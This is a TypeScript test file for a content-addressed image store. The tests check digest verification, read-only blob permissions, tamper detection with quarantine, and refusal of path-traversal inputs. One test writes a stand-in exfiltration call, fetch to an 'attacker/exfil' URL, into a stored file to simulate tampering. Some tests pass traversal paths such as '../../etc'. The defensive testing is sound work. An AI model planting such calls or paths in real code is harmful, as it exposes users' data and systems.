// The image store: the digest it names an image by is the one verification recomputes; blobs are written once and
// read-only; a rebuild leaves an intact blob alone and replaces (after moving aside) one whose bytes changed.
import { existsSync, readdirSync, readFileSync, statSync, utimesSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { rewriteReadOnlyFile, tempDir } from '../../testing/workloads.ts';
import { manifestDigest, scanImageDirectory } from './image-content.ts';
import { ENTRY_FILE, ImageStore } from './images.ts';

const dirs: { remove(): void }[] = [];
afterEach(() => {
  for (const dir of dirs.splice(0)) dir.remove();
});

function store(): { images: ImageStore; root: string } {
  const dir = tempDir('tub-images-');
  dirs.push(dir);
  return { images: new ImageStore(join(dir.path, 'images')), root: join(dir.path, 'images') };
}

const tamper = rewriteReadOnlyFile;

const mode = (path: string): number => statSync(path).mode & 0o777;

describe('ImageStore', () => {
  it('names an image by the digest verification recomputes, and verifies it', async () => {
    const { images } = store();
    const digest = await images.build(join(import.meta.dirname, '..', '..', 'apps', 'currency-converter', 'clean', 'main.ts'));
    const scan = scanImageDirectory(images.imageDir(digest));
    expect(scan.ok && manifestDigest(scan.manifest)).toBe(digest);
    expect(images.verify(digest)).toEqual({ ok: true });
    expect(images.has(digest)).toBe(true);
  });

  it('writes blobs once, read-only: files 0444, directories 0555, the build record 0444', () => {
    const { images, root } = store();
    const digest = images.storeImage({ [ENTRY_FILE]: Buffer.from('export {}'), 'lib/util.mjs': Buffer.from('x') });
    expect(mode(images.imageDir(digest))).toBe(0o555);
    expect(mode(join(images.imageDir(digest), 'lib'))).toBe(0o555);
    expect(mode(images.entryFile(digest))).toBe(0o444);
    expect(mode(join(images.imageDir(digest), 'lib', 'util.mjs'))).toBe(0o444);
    expect(mode(join(root, 'manifests', 'sha256', `${digest.slice(7)}.json`))).toBe(0o444);
    // Nothing half-written is left beside the blobs.
    expect(readdirSync(join(root, 'blobs', 'sha256')).filter((name) => name.startsWith('.'))).toEqual([]);
  });

  it('a rebuild of the same digest leaves the blob alone', () => {
    const { images } = store();
    const digest = images.storeBlob(Buffer.from('export const a = 1;'));
    const before = statSync(images.entryFile(digest));
    const dirBefore = statSync(images.imageDir(digest));
    expect(images.storeBlob(Buffer.from('export const a = 1;'))).toBe(digest);
    const after = statSync(images.entryFile(digest));
    expect([after.ino, after.mtimeMs, after.ctimeMs]).toEqual([before.ino, before.mtimeMs, before.ctimeMs]);
    expect(statSync(images.imageDir(digest)).ino).toBe(dirBefore.ino);
  });

  it('reports the file whose bytes changed behind a digest; a rebuild moves the tampered blob aside and restores it', () => {
    const { images, root } = store();
    const clean = Buffer.from('export const rate = 1.27;');
    const digest = images.storeBlob(clean);
    tamper(images.entryFile(digest), 'fetch("http://attacker/exfil")');
    expect(images.verify(digest)).toEqual({ ok: false, change: 'changed', file: ENTRY_FILE, reason: `image content does not match its digest ${digest}: ${ENTRY_FILE} changed` });

    expect(images.storeBlob(clean)).toBe(digest);
    expect(images.verify(digest)).toEqual({ ok: true });
    expect(readFileSync(images.entryFile(digest))).toEqual(clean);
    const [aside] = readdirSync(join(root, 'quarantine'));
    expect(aside).toMatch(new RegExp(`^${digest.slice(7)}-\\d+$`));
    expect(readFileSync(join(root, 'quarantine', aside!, ENTRY_FILE), 'utf8')).toContain('attacker');
  });

  it('is not fooled by a same-size rewrite with the old times put back (no stat-keyed cache: every call hashes)', () => {
    const { images } = store();
    const digest = images.storeBlob(Buffer.from('export const rate = 1.27;'));
    expect(images.verify(digest)).toEqual({ ok: true });
    const file = images.entryFile(digest);
    // A whole-second time, so that putting it back is exact (as `touch -r` would make it).
    utimesSync(file, 1_700_000_000, 1_700_000_000);
    const before = statSync(file, { bigint: true });
    tamper(file, 'export const rate = 9.99;');
    utimesSync(file, 1_700_000_000, 1_700_000_000);
    const after = statSync(file, { bigint: true });
    expect([after.ino, after.size, after.mtimeNs]).toEqual([before.ino, before.size, before.mtimeNs]);
    expect(images.verify(digest)).toMatchObject({ ok: false, change: 'changed', file: ENTRY_FILE });
  });

  it('refuses an unknown or malformed digest', () => {
    const { images } = store();
    expect(images.verify(`sha256:${'0'.repeat(64)}`)).toMatchObject({ ok: false, change: 'missing' });
    expect(images.verify('sha256:../../etc')).toMatchObject({ ok: false });
  });

  it('refuses file paths that would leave the image directory', () => {
    const { images } = store();
    for (const path of ['../main.mjs', '/tmp/x.mjs', 'a/../../b.mjs']) expect(() => images.storeImage({ [ENTRY_FILE]: Buffer.from(''), [path]: Buffer.from('') }), path).toThrow(/relative and normal/);
    expect(existsSync(images.imageDir(`sha256:${'0'.repeat(64)}`))).toBe(false);
  });
});
